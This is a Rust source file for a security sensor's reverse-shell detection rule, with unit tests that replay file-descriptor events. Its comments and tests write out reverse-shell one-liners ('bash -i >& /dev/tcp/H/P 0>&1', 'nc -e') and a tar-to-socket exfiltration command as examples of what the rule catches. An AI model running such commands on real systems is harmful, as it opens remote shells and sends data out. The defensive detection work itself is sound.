//! SNS-0001 reverse shell: a shell or interpreter whose standard input and output (or
//! error) are network sockets (`bash -i >& /dev/tcp/H/P 0>&1`, `nc -e`, python
//! socket+dup2+pty).
//!
//! Descriptors outlive fork and exec, so the state follows them: a child inherits which of
//! its parent's fds 0-2 are sockets, and a process that becomes a shell by exec is judged
//! again. A command that only sends its output to a socket (stdin untouched) is not a
//! shell under remote control and is not reported.

use std::collections::HashMap;

use sensor_common::EventKind;

use super::{Detector, Finding, Response, Rule, is_shell_or_interpreter, proc_key};
use crate::proto;

pub const RULE: Rule = Rule {
    id: "SNS-0001",
    title: "Reverse shell",
    description: "A shell or interpreter has its standard input and output connected to a network socket.",
    severity: "high",
    mitre: &["T1059.004", "T1071"],
    response: Response::StopWithShells,
};

#[derive(Clone, Default)]
struct StdSockets {
    /// Bit n set: fd n is a network socket.
    fds: u8,
    remote: String,
    evidence: Vec<u64>,
    reported: bool,
}

/// Bound on tracked processes; a process only enters the map by dup'ing a socket onto
/// stdio, so this is far above normal use.
const MAX_TRACKED: usize = 4096;

#[derive(Default)]
pub struct ReverseShell {
    procs: HashMap<(u32, u64), StdSockets>,
}

impl Detector for ReverseShell {
    fn rules(&self) -> &'static [&'static Rule] {
        &[&RULE]
    }

    fn inspect(&mut self, kind: Option<EventKind>, e: &proto::Event, out: &mut Vec<Finding>) {
        let Some(key) = proc_key(e) else { return };
        match kind {
            Some(EventKind::FdDup) => {
                let Some(d) = &e.fd_dup else { return };
                if d.result < 0 || !(0..=2).contains(&d.newfd) {
                    return;
                }
                let is_net = d
                    .socket
                    .as_ref()
                    .is_some_and(|s| s.family == "inet" || s.family == "inet6");
                if !is_net && !self.procs.contains_key(&key) {
                    return;
                }
                if self.procs.len() >= MAX_TRACKED && !self.procs.contains_key(&key) {
                    return;
                }
                let st = self.procs.entry(key).or_default();
                if is_net {
                    st.fds |= 1 << d.newfd;
                    let s = d.socket.as_ref().unwrap();
                    st.remote = format!("{}:{}", s.dst_addr, s.dst_port);
                    st.evidence.push(e.seq);
                } else {
                    // Something else now sits on that fd.
                    st.fds &= !(1 << d.newfd);
                }
            }
            Some(EventKind::ProcessFork) => {
                let Some(p) = &e.process else { return };
                let parent = p.ancestors.first().map(|a| (a.pid, a.start_time));
                if let Some(st) = parent.and_then(|k| self.procs.get(&k)).cloned()
                    && self.procs.len() < MAX_TRACKED
                {
                    self.procs.insert(
                        key,
                        StdSockets {
                            reported: false,
                            ..st
                        },
                    );
                }
                return;
            }
            Some(EventKind::ProcessExec) => {
                if let Some(st) = self.procs.get_mut(&key) {
                    st.evidence.push(e.seq);
                    st.reported = false;
                }
            }
            Some(EventKind::ProcessExit) => {
                self.procs.remove(&key);
                return;
            }
            _ => return,
        }
        let Some(st) = self.procs.get_mut(&key) else {
            return;
        };
        let controlled = st.fds & 1 != 0 && st.fds & 0b110 != 0;
        let p = e.process.as_ref().unwrap();
        if controlled && !st.reported && is_shell_or_interpreter(&p.exe) {
            st.reported = true;
            out.push(Finding {
                rule: &RULE,
                process: p.clone(),
                evidence: st.evidence.clone(),
                details: vec![("remote", st.remote.clone())],
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use sensor_testkit::events::{child, event, exec, fd_dup, process, tcp_socket};

    use crate::detect::replay::raises;

    const ID: &str = "SNS-0001";

    #[test]
    fn a_shell_with_stdin_and_stdout_on_a_socket() {
        // bash -i >& /dev/tcp/H/P 0>&1
        let bash = process(3700, "/usr/bin/bash", &["bash", "-i"]);
        assert!(raises(
            ID,
            vec![
                fd_dup(&bash, 3, 1, Some(tcp_socket(4444))),
                fd_dup(&bash, 3, 2, Some(tcp_socket(4444))),
                fd_dup(&bash, 3, 0, Some(tcp_socket(4444))),
            ]
        ));
        // A compiled dropper dup2s the socket (not a shell: no detection yet), then a
        // child inherits its stdio and becomes one.
        let dropper = process(3710, "/tmp/.x/connect", &["connect"]);
        let stdio = vec![
            fd_dup(&dropper, 3, 0, Some(tcp_socket(4444))),
            fd_dup(&dropper, 3, 1, Some(tcp_socket(4444))),
        ];
        assert!(!raises(ID, stdio.clone()));
        let sh = child(&dropper, 3711, "/bin/sh", &["sh", "-i"]);
        let mut forked = sh.clone();
        forked.exe = dropper.exe.clone();
        let mut all = stdio;
        all.extend([event("process_fork", &forked), exec(&sh)]);
        assert!(raises(ID, all));
    }

    #[test]
    fn output_only_to_a_socket_or_a_local_pipe_is_quiet() {
        // A command that sends its output over the network, its stdin untouched.
        let bash = process(
            3720,
            "/usr/bin/bash",
            &["bash", "-c", "tar c . >/dev/tcp/h/p"],
        );
        assert!(!raises(
            ID,
            vec![fd_dup(&bash, 3, 1, Some(tcp_socket(9000)))]
        ));
        // A shell's stdio on a pipe (no socket): ordinary redirection.
        let sh = process(3721, "/bin/sh", &["sh"]);
        assert!(!raises(
            ID,
            vec![fd_dup(&sh, 3, 0, None), fd_dup(&sh, 4, 1, None)]
        ));
        // A program that is not a shell serving a connection on its stdio (inetd style).
        let daemon = process(3722, "/usr/sbin/in.tftpd", &[]);
        assert!(!raises(
            ID,
            vec![
                fd_dup(&daemon, 3, 0, Some(tcp_socket(69))),
                fd_dup(&daemon, 3, 1, Some(tcp_socket(69))),
            ]
        ));
    }
}
